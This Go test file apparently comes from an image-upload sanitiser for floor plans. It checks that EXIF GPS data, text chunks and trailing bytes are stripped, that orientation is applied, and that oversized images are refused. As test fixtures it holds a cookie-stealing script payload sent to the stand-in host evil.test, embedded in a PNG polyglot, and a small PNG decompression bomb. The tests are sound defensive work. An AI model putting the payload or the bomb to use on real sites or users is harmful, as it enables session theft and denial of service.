package floorplan

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/draw"
	"image/jpeg"
	"image/png"
	"testing"
)

// TestAcceptPNGDropsMetadata: a PNG comes out as its pixels only: no text
// chunk, no EXIF with a GPS position, nothing after its end.
func TestAcceptPNGDropsMetadata(t *testing.T) {
	t.Parallel()
	clean := pngOf(t, 40, 30)
	in := withChunks(clean, []byte("trailing bytes"),
		chunk("tEXt", []byte("Author\x00Jane Doe, facilities")),
		chunk("eXIf", []byte("MM\x00\x2aGPSLatitude 52.3702 GPSLongitude 4.8952")))
	p := mustAccept(t, in)
	if p.Type != PNG || p.From != PNG || p.Width != 40 || p.Height != 30 || p.ContentType() != "image/png" {
		t.Errorf("got %s from %s, %d × %d; want a PNG of 40 × 30", p.Type, p.From, p.Width, p.Height)
	}
	for _, gone := range []string{"tEXt", "eXIf", "Jane Doe", "GPS", "trailing"} {
		if bytes.Contains(p.Data, []byte(gone)) {
			t.Errorf("the plan still holds %q", gone)
		}
	}
	samePixels(t, clean, p.Data)
}

// TestAcceptJPEGDropsEXIF: a photographed plan stays a JPEG, without the
// EXIF segment that holds where it was taken.
func TestAcceptJPEGDropsEXIF(t *testing.T) {
	t.Parallel()
	img, err := png.Decode(bytes.NewReader(pngOf(t, 64, 48)))
	if err != nil {
		t.Fatal(err)
	}
	p := mustAccept(t, jpegWithEXIF(t, img, 1, "GPSLatitude 52.3702 N GPSLongitude 4.8952 E Camera: Phone 12"))
	if p.Type != JPEG || p.Width != 64 || p.Height != 48 || p.ContentType() != "image/jpeg" {
		t.Errorf("got %s, %d × %d; want a JPEG of 64 × 48", p.Type, p.Width, p.Height)
	}
	for _, gone := range []string{"Exif", "GPS", "Camera"} {
		if bytes.Contains(p.Data, []byte(gone)) {
			t.Errorf("the plan still holds %q", gone)
		}
	}
}

// TestAcceptJPEGTurnsAsEXIFSays: a photo a phone took upright but stored
// as its sensor saw it comes out upright, although its EXIF is dropped.
func TestAcceptJPEGTurnsAsEXIFSays(t *testing.T) {
	t.Parallel()
	img := image.NewRGBA(image.Rect(0, 0, 64, 48))
	draw.Draw(img, img.Bounds(), image.White, image.Point{}, draw.Src)
	draw.Draw(img, image.Rect(0, 0, 16, 16), image.NewUniform(color.RGBA{200, 0, 0, 255}), image.Point{}, draw.Src)
	for _, tc := range []struct {
		orientation   int
		width, height int
		red           image.Point // where the top left corner's block ends up
	}{
		{1, 64, 48, image.Pt(8, 8)},
		{3, 64, 48, image.Pt(56, 40)},
		{6, 48, 64, image.Pt(40, 8)},
		{8, 48, 64, image.Pt(8, 56)},
	} {
		p := mustAccept(t, jpegWithEXIF(t, img, tc.orientation, ""))
		out, err := jpeg.Decode(bytes.NewReader(p.Data))
		if err != nil {
			t.Fatal(err)
		}
		if p.Width != tc.width || p.Height != tc.height || out.Bounds().Dx() != tc.width {
			t.Errorf("orientation %d: got %d × %d, want %d × %d", tc.orientation, p.Width, p.Height, tc.width, tc.height)
			continue
		}
		if r, g, _, _ := out.At(tc.red.X, tc.red.Y).RGBA(); r>>8 < 150 || g>>8 > 60 {
			t.Errorf("orientation %d: the corner block is not at %v", tc.orientation, tc.red)
		}
	}
}

// jpegWithEXIF encodes img as a JPEG with an EXIF segment that gives its
// orientation and holds text besides.
func jpegWithEXIF(t *testing.T, img image.Image, orientation int, text string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 95}); err != nil {
		t.Fatal(err)
	}
	tiff := []byte("MM\x00\x2a\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00")
	tiff[19] = byte(orientation) // the value of the one entry, Orientation (0x0112), a SHORT
	exif := append(append([]byte("Exif\x00\x00"), tiff...), text...)
	app1 := []byte{0xff, 0xe1, 0, 0}
	binary.BigEndian.PutUint16(app1[2:], uint16(len(exif)+2))
	in := append(append(append([]byte{}, b.Bytes()[:2]...), append(app1, exif...)...), b.Bytes()[2:]...)
	if _, err := jpeg.Decode(bytes.NewReader(in)); err != nil {
		t.Fatalf("the test's JPEG does not decode: %v", err)
	}
	return in
}

// TestAcceptPolyglotPNG: a file that is a PNG and an HTML page at once
// comes out as a PNG only.
func TestAcceptPolyglotPNG(t *testing.T) {
	t.Parallel()
	html := []byte("<html><body><script>fetch('https://evil.test/?c='+document.cookie)</script></body></html>")
	in := withChunks(pngOf(t, 8, 8), html, chunk("tEXt", append([]byte("Comment\x00"), html...)), chunk("htMl", html))
	p := mustAccept(t, in)
	for _, gone := range []string{"<html", "<script", "evil.test", "htMl"} {
		if bytes.Contains(p.Data, []byte(gone)) {
			t.Errorf("the plan still holds %q", gone)
		}
	}
	samePixels(t, pngOf(t, 8, 8), p.Data)
}

// TestAcceptRefusesDecompressionBombs: a small PNG that claims a huge
// image is refused from its header, before a byte of it is decoded: one
// past 8,000 px a side, and one within the sides whose pixels are past
// the limit (a real one: 8 KB that would decode into 64 MB).
func TestAcceptRefusesDecompressionBombs(t *testing.T) {
	t.Parallel()
	// Its image data is not even there: decoding it would fail as
	// unreadable, so a refusal as too big was made before decoding.
	_, err := accept(t, pngHeader(100_000, 100_000, []byte("not image data")))
	refusedAs(t, err, TooBig, "100,000 × 100,000 px", "at most 8,000 px a side")

	var idat bytes.Buffer
	z, _ := zlib.NewWriterLevel(&idat, zlib.BestCompression)
	row := make([]byte, 1+8000/8)
	for range 8000 {
		z.Write(row) //nolint:errcheck // a bytes.Buffer does not fail
	}
	z.Close()
	bomb := pngHeader(8000, 8000, idat.Bytes())
	if len(bomb) > 64<<10 {
		t.Fatalf("the bomb is %d bytes, not small", len(bomb))
	}
	_, err = accept(t, bomb)
	refusedAs(t, err, TooBig, "64,000,000 pixels", "at most 40,000,000")

	_, err = accept(t, pngHeader(100, 100, []byte("not image data")))
	refusedAs(t, err, Unreadable, "This PNG could not be read")
}

// samePixels checks that two PNGs show the same pixels.
func samePixels(t *testing.T, want, got []byte) {
	t.Helper()
	a, err := png.Decode(bytes.NewReader(want))
	if err != nil {
		t.Fatal(err)
	}
	b, err := png.Decode(bytes.NewReader(got))
	if err != nil {
		t.Fatalf("the plan is not a PNG: %v", err)
	}
	if a.Bounds() != b.Bounds() {
		t.Fatalf("the plan is %v, want %v", b.Bounds(), a.Bounds())
	}
	for y := a.Bounds().Min.Y; y < a.Bounds().Max.Y; y++ {
		for x := a.Bounds().Min.X; x < a.Bounds().Max.X; x++ {
			if !sameColor(a, b, x, y) {
				t.Fatalf("the pixel at %d,%d changed", x, y)
			}
		}
	}
}

func sameColor(a, b image.Image, x, y int) bool {
	r1, g1, b1, a1 := a.At(x, y).RGBA()
	r2, g2, b2, a2 := b.At(x, y).RGBA()
	return r1 == r2 && g1 == g2 && b1 == b2 && a1 == a2
}

// TestAcceptRefusesDeepBombs: a PNG of 16 bits a channel takes 8 bytes a
// pixel decoded, so it may have half the pixels of another; one past that
// is refused from its header.
func TestAcceptRefusesDeepBombs(t *testing.T) {
	t.Parallel()
	deep := pngHeader(6000, 6000, []byte("not image data"))
	deep[16+8], deep[16+9] = 16, 6 // 16 bits a channel, RGBA
	binary.BigEndian.PutUint32(deep[29:], crc32.ChecksumIEEE(deep[12:29]))
	_, err := accept(t, deep)
	refusedAs(t, err, TooBig, "36,000,000 pixels of 16 bits a channel", "at most 20,000,000")

	small := image.NewNRGBA64(image.Rect(0, 0, 3, 2))
	var b bytes.Buffer
	if err := png.Encode(&b, small); err != nil {
		t.Fatal(err)
	}
	if p := mustAccept(t, b.Bytes()); p.Width != 3 || p.Height != 2 {
		t.Errorf("a small PNG of 16 bits a channel came out %d × %d", p.Width, p.Height)
	}
}
